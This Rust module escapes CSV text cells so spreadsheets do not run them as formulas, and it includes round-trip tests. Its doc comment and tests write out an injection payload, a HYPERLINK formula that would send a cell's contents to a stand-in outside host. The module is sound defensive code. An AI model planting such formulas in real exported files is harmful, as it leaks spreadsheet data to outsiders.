//! Text cells of the CSV files the program writes, safe to open in a
//! spreadsheet.
//!
//! A cell that begins with `=`, `+`, `-` or `@` (or a tab or a carriage
//! return, which some spreadsheets skip before looking) is taken by Excel,
//! LibreOffice and Google Sheets as a formula: a stall named
//! `=HYPERLINK("http://…"&A1,"klik")` would become a live link in the
//! province's spreadsheet. Every text cell is written through [`text_cell`],
//! which puts a `'` before such a cell, so it reads as text; the numeric
//! columns (rupiah, counts, quantities) are written as they are, so a
//! spreadsheet still adds them up and a refund of -5000 stays a number.
//! Reading a CSV back, [`read_text_cell`] takes that `'` off again.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, once any leading `'` are set aside, begins like a
/// formula (and so was, or must be, written with one more `'`).
fn needs_quote(text: &str) -> bool {
    text.trim_start_matches('\'')
        .starts_with(|c: char| FORMULA_START.contains(&c))
}

/// A text value as a CSV cell: with a leading `'` if it would otherwise
/// start like a formula. Also a value that already begins with `'` before
/// such a character gets one more, so that [`read_text_cell`] gives back
/// exactly what was written.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    if needs_quote(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell read from a CSV: the value [`text_cell`] was given (a `'`
/// written, or typed, before a formula character is taken off).
pub fn read_text_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_read_back_unchanged() {
        for (value, written) in [
            (
                "=HYPERLINK(\"http://x\"&A1,\"klik\")",
                "'=HYPERLINK(\"http://x\"&A1,\"klik\")",
            ),
            ("=1+1", "'=1+1"),
            ("+62812", "'+62812"),
            ("-5000", "'-5000"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("''-x", "'''-x"),
            ("Tapis Indah", "Tapis Indah"),
            ("'kutip", "'kutip"),
            ("", ""),
            ("5000", "5000"),
            ("a=b", "a=b"),
        ] {
            assert_eq!(text_cell(value), written, "{value:?}");
            assert_eq!(read_text_cell(written), value, "{written:?}");
        }
    }

    #[test]
    fn a_quote_typed_before_a_formula_in_a_spreadsheet_is_taken_off() {
        assert_eq!(read_text_cell("'=A1"), "=A1");
        assert_eq!(read_text_cell("'biasa"), "'biasa");
    }
}
